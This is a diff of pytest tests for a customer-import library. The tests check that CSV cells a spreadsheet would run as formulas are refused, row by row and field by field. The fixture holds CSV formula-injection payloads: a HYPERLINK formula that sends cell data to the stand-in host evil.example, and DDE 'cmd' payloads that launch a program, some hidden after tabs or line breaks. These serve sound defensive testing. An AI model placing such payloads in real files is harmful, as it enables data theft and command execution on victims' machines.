@@ -140,3 +140,73 @@ def test_import_columns_lists_what_an_import_understands(cm: CustomerManager) ->
     assert private["column"].tolist() == ["first_name", "last_name", "email"]
     with pytest.raises(ValidationError, match="unknown customer group 'nope'"):
         cm.import_columns("nope")
+
+
+FORMULA_CSV = (
+    "first_name;last_name;email;phone;kind;company\n"
+    'Eve;"=HYPERLINK(""http://evil.example/?""&A1,""Details"")";;;contact;Acme GmbH\n'
+    "=cmd|' /C calc'!A0;Calc;;;contact;Acme GmbH\n"
+    "Pia;+cmd|' /C calc'!A0;;;contact;Acme GmbH\n"
+    "Max;-2+3+cmd|' /C calc'!A0;;;contact;Acme GmbH\n"
+    "Ida;@SUM(1+1)*cmd|' /C calc'!A0;;;contact;Acme GmbH\n"
+    'Tom;"\t=1+1";;;contact;Acme GmbH\n'
+    'Ute;"\r\n=1+1";;;contact;Acme GmbH\n'
+    "Kai;Kurz;=1+1@evil.example;;contact;Acme GmbH\n"
+)
+
+
+def test_hostile_import_formula_cells_are_refused_by_row_and_field(
+    cm: CustomerManager, world, tmp_path: Path, snapshot: Snapshot
+) -> None:
+    """Cells a spreadsheet would run (= + - @ first, also after a tab or line break) are problems of their row
+    and field; the import stores nothing, also when asked to (docs: cmkit.domain.formulas)."""
+    path = tmp_path / "formulas.csv"
+    path.write_text(FORMULA_CSV, encoding="utf-8")
+    before = snapshot()
+    out = cm.import_customers(path, "retail")
+    run = "so a spreadsheet would run it as a formula; cmkit does not import formulas"
+    assert out.problems == [
+        f"row 2, last_name: '=HYPERLINK(\"http://evil.example/?\"&A1...' starts with '=', {run}: "
+        "remove the leading '=' or reword the cell",
+        f"row 3, first_name: \"=cmd|' /C calc'!A0\" starts with '=', {run}: remove the leading '=' or reword the cell",
+        f"row 4, last_name: \"+cmd|' /C calc'!A0\" starts with '+', {run}: remove the leading '+' or reword the cell",
+        f"row 5, last_name: \"-2+3+cmd|' /C calc'!A0\" starts with '-', {run}: remove the leading '-' or reword the cell",
+        f"row 6, last_name: \"@SUM(1+1)*cmd|' /C calc'!A0\" starts with '@', {run}: "
+        "remove the leading '@' or reword the cell",
+        f"row 7, last_name: '=1+1' starts with '=' after a tab, {run}: remove the leading '=' or reword the cell",
+        f"row 8, last_name: '=1+1' starts with '=' after a line break, {run}: "
+        "remove the leading '=' or reword the cell",
+        f"row 9, email: '=1+1@evil.example' starts with '=', {run}: remove the leading '=' or reword the cell",
+    ]
+    assert out.changes["problems"].str.contains("formula").tolist() == [True] * 8
+    with pytest.raises(PreconditionFailed):
+        cm.import_customers(path, "retail", dry_run=False)
+    assert snapshot() == before
+
+
+def test_hostile_import_signed_numbers_and_phones_are_data_and_leading_tabs_are_noted(
+    cm: CustomerManager, world
+) -> None:
+    rows = pd.DataFrame(
+        [
+            {"first_name": "-", "last_name": "Lange", "phone": "+49 30 1234567", "company": "Acme GmbH"},
+            {"first_name": "\tTina", "last_name": "-5", "phone": "-", "company": "Acme GmbH"},
+            {"first_name": "\r\nRolf", "last_name": "@", "company": "Acme GmbH"},
+        ]
+    )
+    out = cm.import_customers(rows, "retail")
+    assert out.problems == ["row 3, phone: '-' is not a phone number (digits, spaces, + ( ) / . - allowed)"]
+    rows.loc[1, "phone"] = None
+    out = cm.import_customers(rows, "retail", dry_run=False)
+    assert out.applied and out.problems == []
+    assert out.changes["note"].tolist() == [
+        "",
+        "first_name: the leading tab was removed",
+        "first_name: the leading line break was removed",
+    ]
+    stored = [dict(cm.customer(i).fields) for i in out.changes["id"]]
+    assert [(f.get("first_name"), f["last_name"], f.get("phone")) for f in stored] == [
+        ("-", "Lange", "+49 30 1234567"),
+        ("Tina", "-5", None),
+        ("Rolf", "@", None),
+    ]
